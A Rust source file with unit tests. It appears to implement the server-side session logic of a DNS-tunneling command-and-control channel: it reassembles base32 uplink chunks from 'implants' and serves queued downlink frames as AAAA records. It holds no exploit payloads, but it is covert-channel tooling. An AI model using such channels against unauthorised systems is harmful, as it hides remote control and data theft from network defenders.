//! Per-implant tunnel endpoint. One `Session` exists per registered client
//! and drives the reassembly/chunking state machine described in `spec.md`
//! §3/§4.3.

use std::sync::Weak;

use log::{debug, info, warn};
use tokio::sync::mpsc;

use crate::controller::ControllerHandle;
use crate::encoders::Encoder;
use crate::fragment::{BlockSizedData, PartedData};
use crate::subdomain::{next_subdomain, RESET_SENTINEL};
use crate::wire::RData;

#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum SessionState {
    Initial,
    IncomingData,
}

/// Default depth for the uplink/downlink frame queues; generous enough that
/// a slow controller never forces a DNS worker to block.
const QUEUE_CAPACITY: usize = 256;

pub struct Session {
    pub domain: String,
    pub client_id: char,
    pub server_id: String,

    state: SessionState,
    received: PartedData,
    last_received_index: i64,
    padding: usize,

    sub_domain: String,
    send_data: Option<BlockSizedData>,

    server_tx: mpsc::Sender<Vec<u8>>,
    server_rx: mpsc::Receiver<Vec<u8>>,
    client_tx: mpsc::Sender<Vec<u8>>,
    client_rx: mpsc::Receiver<Vec<u8>>,

    controller: Option<Weak<ControllerHandle>>,
    pub register_for_server_needed: bool,
    pub ts: u64,
}

impl Session {
    pub fn new(domain: String, client_id: char, server_id: String, now: u64) -> Self {
        let (server_tx, server_rx) = mpsc::channel(QUEUE_CAPACITY);
        let (client_tx, client_rx) = mpsc::channel(QUEUE_CAPACITY);
        Self {
            domain,
            client_id,
            server_id,
            state: SessionState::Initial,
            received: PartedData::new(0),
            last_received_index: -1,
            padding: 0,
            sub_domain: RESET_SENTINEL.to_string(),
            send_data: None,
            server_tx,
            server_rx,
            client_tx,
            client_rx,
            controller: None,
            register_for_server_needed: true,
            ts: now,
        }
    }

    pub fn server_queue_sender(&self) -> mpsc::Sender<Vec<u8>> {
        self.server_tx.clone()
    }

    pub fn client_queue_sender(&self) -> mpsc::Sender<Vec<u8>> {
        self.client_tx.clone()
    }

    /// Non-blocking pop used by the controller write path (spec §4.4).
    pub fn try_recv_server_frame(&mut self) -> Option<Vec<u8>> {
        self.server_rx.try_recv().ok()
    }

    fn try_recv_client_frame(&mut self) -> Option<Vec<u8>> {
        self.client_rx.try_recv().ok()
    }

    pub fn pair_with(&mut self, controller: Weak<ControllerHandle>) {
        self.controller = Some(controller);
    }

    pub fn unpair(&mut self) {
        self.controller = None;
    }

    /// Upgrades the weak back-reference, if the controller is still alive.
    /// Used by the timeout sweeper to poke a timed-out session's controller
    /// before unpairing it (spec §4.7: "notify paired controller via
    /// on_client_timeout").
    pub fn controller_handle(&self) -> Option<std::sync::Arc<ControllerHandle>> {
        self.controller.as_ref().and_then(Weak::upgrade)
    }

    /// No paired controller and no in-flight reassembly: safe for the
    /// timeout sweeper to reclaim (spec §4.6).
    pub fn is_idle(&self) -> bool {
        let controller_gone = match &self.controller {
            None => true,
            Some(weak) => weak.upgrade().is_none(),
        };
        controller_gone && self.state == SessionState::Initial
    }

    pub fn touch(&mut self, now: u64) {
        self.ts = now;
    }

    fn notify_controller(&self) {
        if let Some(weak) = &self.controller {
            if let Some(handle) = weak.upgrade() {
                handle.notify_polling();
            }
        }
    }

    // -- spec.md §4.3 --

    pub fn register_client(enc: &dyn Encoder, client_id: char) -> Vec<RData> {
        enc.encode_registration(client_id, 0)
    }

    pub fn incoming_data_header(&mut self, size: usize, padd: usize, enc: &dyn Encoder) -> Vec<RData> {
        match self.state {
            SessionState::IncomingData if self.received.expected_size() == size => {
                // duplicate header, same size: idempotent per spec §4.3/§8.6
                enc.encode_ready_receive()
            }
            SessionState::IncomingData => {
                warn!("upload header size mismatch for client {}: expected {}, got {}", self.client_id, self.received.expected_size(), size);
                Vec::new()
            }
            SessionState::Initial => {
                self.received.reset(size);
                self.padding = padd;
                self.last_received_index = -1;
                self.state = SessionState::IncomingData;
                enc.encode_ready_receive()
            }
        }
    }

    pub fn incoming_data(&mut self, b32: &str, idx: i64, _cnt: usize, enc: &dyn Encoder) -> Vec<RData> {
        if self.state != SessionState::IncomingData || b32.is_empty() {
            return enc.encode_finish_send();
        }
        if idx <= self.last_received_index {
            // duplicate chunk: idempotent, no state change
            return enc.encode_send_more_data();
        }

        if self.received.add_part(b32.as_bytes()).is_err() {
            warn!("uplink overflow for client {}, resetting", self.client_id);
            self.state = SessionState::Initial;
            self.received.reset(0);
            return enc.encode_finish_send();
        }
        self.last_received_index = idx;

        if self.received.is_complete() {
            let padded = format!("{}{}", String::from_utf8_lossy(self.received.data()), "=".repeat(self.padding));
            match data_encoding::BASE32.decode(padded.to_uppercase().as_bytes()) {
                Ok(decoded) => {
                    debug!("uplink frame complete for client {}: {} bytes", self.client_id, decoded.len());
                    let _ = self.server_tx.try_send(decoded);
                    self.notify_controller();
                }
                Err(_) => {
                    warn!("base32 decode failed for client {}", self.client_id);
                    self.state = SessionState::Initial;
                    self.received.reset(0);
                    return enc.encode_finish_send();
                }
            }
            self.state = SessionState::Initial;
            self.received.reset(0);
        }
        enc.encode_send_more_data()
    }

    pub fn request_data_header(&mut self, sub_dom: &str, enc: &dyn Encoder) -> Vec<RData> {
        if sub_dom != self.sub_domain {
            // implant restarted its poll cycle; adopt its cursor and drop
            // any half-sent frame
            if sub_dom == RESET_SENTINEL {
                info!("client {} migrated, dropping in-flight downlink", self.client_id);
            }
            self.sub_domain = sub_dom.to_string();
            self.send_data = None;
            return Vec::new();
        }

        if self.register_for_server_needed {
            self.register_for_server_needed = false;
        }

        if self.send_data.is_none() {
            if let Some(frame) = self.try_recv_client_frame() {
                self.send_data = Some(BlockSizedData::new(frame, enc.max_packet_size()));
            }
        }

        match &self.send_data {
            Some(block) => {
                let next_sub = next_subdomain(&self.sub_domain);
                self.sub_domain = next_sub.clone();
                enc.encode_data_header(&next_sub, block.size())
            }
            None => enc.encode_data_header(&self.sub_domain, 0),
        }
    }

    pub fn request_data(&self, sub_dom: &str, idx: usize, enc: &dyn Encoder) -> Vec<RData> {
        if sub_dom != self.sub_domain {
            return Vec::new();
        }
        match &self.send_data {
            Some(block) => match block.get(idx) {
                Ok((_is_last, slice)) => enc.encode_packet(slice).unwrap_or_default(),
                Err(_) => {
                    warn!("out-of-range downlink index {} for client {}", idx, self.client_id);
                    Vec::new()
                }
            },
            None => Vec::new(),
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::encoders::Ipv6Encoder;

    fn new_session() -> Session {
        Session::new("tunnel.example.com".to_string(), 'a', "XYZ".to_string(), 0)
    }

    #[test]
    fn incoming_data_header_duplicate_is_idempotent() {
        let mut s = new_session();
        let first = s.incoming_data_header(5, 3, &Ipv6Encoder);
        let second = s.incoming_data_header(5, 3, &Ipv6Encoder);
        assert_eq!(first.len(), second.len());
        assert_eq!(s.received.expected_size(), 5);
    }

    #[test]
    fn incoming_data_header_size_mismatch_is_dropped() {
        let mut s = new_session();
        s.incoming_data_header(5, 3, &Ipv6Encoder);
        let resp = s.incoming_data_header(9, 3, &Ipv6Encoder);
        assert!(resp.is_empty());
        assert_eq!(s.received.expected_size(), 5);
    }

    #[test]
    fn incoming_data_assembles_and_enqueues_full_frame() {
        let mut s = new_session();
        s.incoming_data_header(5, 3, &Ipv6Encoder);
        // base32("abc") = "MFRGG===" -> 5 raw chars without padding "MFRGG"
        s.incoming_data("MFRGG", 0, 1, &Ipv6Encoder);
        assert_eq!(s.state, SessionState::Initial);
        let frame = s.server_rx.try_recv().unwrap();
        assert_eq!(frame, b"abc");
    }

    #[test]
    fn incoming_data_duplicate_chunk_does_not_advance() {
        let mut s = new_session();
        s.incoming_data_header(10, 0, &Ipv6Encoder);
        s.incoming_data("MFRGG", 0, 2, &Ipv6Encoder);
        assert_eq!(s.received.current_size(), 5);
        s.incoming_data("MFRGG", 0, 2, &Ipv6Encoder);
        // same index re-sent: not appended again
        assert_eq!(s.received.current_size(), 5);
    }

    #[test]
    fn request_data_header_new_poll_cycle_adopts_cursor() {
        let mut s = new_session();
        let resp = s.request_data_header("bbbb", &Ipv6Encoder);
        assert!(resp.is_empty());
        assert_eq!(s.sub_domain, "bbbb");
    }

    #[test]
    fn request_data_header_no_data_returns_zero_size() {
        let mut s = new_session();
        let _ = s.request_data_header("aaaa", &Ipv6Encoder);
        assert!(s.send_data.is_none());
    }

    #[test]
    fn request_data_header_with_queued_frame_advances_cursor() {
        let mut s = new_session();
        s.client_tx.try_send(vec![0u8; 10]).unwrap();
        s.request_data_header("aaaa", &Ipv6Encoder);
        assert_eq!(s.sub_domain, "aaab");
        assert!(s.send_data.is_some());
    }

    #[test]
    fn request_data_header_then_request_data_returns_queued_frame() {
        let mut s = new_session();
        s.client_tx.try_send(vec![0x41u8; 5]).unwrap();

        let header = s.request_data_header("aaaa", &Ipv6Encoder);
        assert_eq!(s.sub_domain, "aaab");
        assert!(!header.is_empty());

        let rr = s.request_data("aaab", 0, &Ipv6Encoder);
        assert_eq!(rr.len(), 1);
        match &rr[0] {
            RData::Aaaa(addr) => {
                let segs = addr.segments();
                assert_eq!(segs[0], 0xff05);
                assert_eq!(segs[1], 0x4141);
                assert_eq!(segs[2], 0x4141);
                assert_eq!(segs[3], 0x4100);
            }
            _ => panic!("expected AAAA"),
        }
    }

    #[test]
    fn request_data_stale_cursor_returns_nothing() {
        let mut s = new_session();
        s.client_tx.try_send(vec![0x41u8; 5]).unwrap();
        s.request_data_header("aaaa", &Ipv6Encoder);
        let rr = s.request_data("zzzz", 0, &Ipv6Encoder);
        assert!(rr.is_empty());
    }

    #[test]
    fn is_idle_true_without_paired_controller() {
        let s = new_session();
        assert!(s.is_idle());
    }

    #[test]
    fn is_idle_false_mid_upload() {
        let mut s = new_session();
        s.incoming_data_header(5, 0, &Ipv6Encoder);
        assert!(!s.is_idle());
    }
}
